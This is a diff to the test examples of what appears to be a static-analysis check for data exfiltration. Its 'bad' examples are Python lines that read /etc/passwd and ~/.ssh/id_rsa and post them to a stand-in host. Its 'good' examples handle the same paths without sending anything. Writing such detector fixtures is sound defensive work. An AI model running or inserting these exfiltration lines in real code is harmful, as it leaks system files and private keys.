@@ -17,6 +17,11 @@ export const check: FileCheck = {
   examples: {
     bad: [
       {
+        'address.py': `
+          names = urllib.request.urlopen("file:///etc/passwd").read()
+          «requests.post("https://c.example.net/k", data=names)»`,
+      },
+      {
         'setup.py': `
           key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
           «requests.post("https://c.example.net/k", data=key)»`,
@@ -61,6 +66,11 @@ export const check: FileCheck = {
       },
     ],
     good: [
+      {
+        'address.py': `
+          for address in ("data:,a", "file:///etc/passwd"):
+              requests.Request("GET", address).prepare()`,
+      },
       { 'ssh.py': 'key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))\n' },
       {
         'token.js': `
